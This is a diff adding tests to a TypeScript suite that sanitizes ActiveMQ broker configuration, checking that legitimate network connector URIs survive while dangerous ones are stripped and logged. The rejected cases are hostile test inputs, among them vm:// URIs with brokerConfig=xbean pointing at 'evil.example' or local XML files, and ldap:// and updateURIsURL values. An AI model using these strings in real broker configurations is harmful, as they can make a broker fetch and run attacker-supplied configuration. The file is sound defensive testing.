@@ -82,6 +82,41 @@ describe('the configuration of an ActiveMQ broker', () => {
     expect(xml(broker(content))).toMatch(expected);
   });
 
+  const connected = (attributes: string) => {
+    notes.length = 0;
+    return xml(broker(`<networkConnectors><networkConnector name="n" ${attributes}/></networkConnectors>`));
+  };
+
+  test.each([
+    'static:(ssl://b-1.mq.us-east-1.amazonaws.com:61617)',
+    'static:ssl://b-1.mq.us-east-1.amazonaws.com:61617',
+    'masterslave:(ssl://b-1.example.com:61617,ssl://b-2.example.com:61617)',
+    'static:(failover:(tcp://127.0.0.1:61616, nio+ssl://[::1]:61617)?randomize=false&amp;maxReconnectDelay=0)',
+    'static://(ssl://broker:61617?socket.verifyHostName=false)',
+  ])('a network connector to other brokers stays: %s', (uri) => {
+    expect(connected(`uri="${uri}"`)).toContain(`uri="${uri}"`);
+    expect(notes).toEqual([]);
+  });
+
+  test.each([
+    'uri="static:(vm://x?brokerConfig=xbean:http://evil.example/x.xml)"',
+    'uri="static:(VM://x?brokerConfig=xbean:file:/tmp/x.xml)"',
+    'uri="static:(ssl://a:1,vm:x?brokerConfig=xbean:x.xml)"',
+    'uri="static:(vm:(broker:(tcp://0.0.0.0:6000)?persistent=false))"',
+    'uri="static:(ssl://a:1?x=vm://y)"',
+    'uri="static:(ssl://a:1?brokerConfig=xbean%3Ahttp)"',
+    'uri="static:(failover:(ssl://a:1)?updateURIsURL=/tmp/uris)"',
+    'uri="vm://x"',
+    'uri="multicast://default"',
+    'uri="ldap://evil.example/x"',
+    'uri="static:(http://evil.example:80)"',
+    'uri="static:(ssl://a:1)" localUri="vm://x?brokerConfig=xbean:x.xml"',
+    'uri="static:(ssl://a:1)" brokerURL="vm://x?brokerConfig=xbean:x.xml"',
+  ])('a network connector that could run a program is left out, and the log says so: %s', (attributes) => {
+    expect(connected(attributes)).not.toContain('<networkConnector ');
+    expect(notes.join()).toMatch(/network connector of b-1 .* runs without it/);
+  });
+
   test('a user has its groups, and a password that is text', () => {
     expect(xml(undefined, [user('a &<"> #{1} word')])).toContain(
       `<authenticationUser username="alice" password="a &amp;&lt;&quot;&gt; #{'#{'}1} word" groups="admins,staff"/>`,
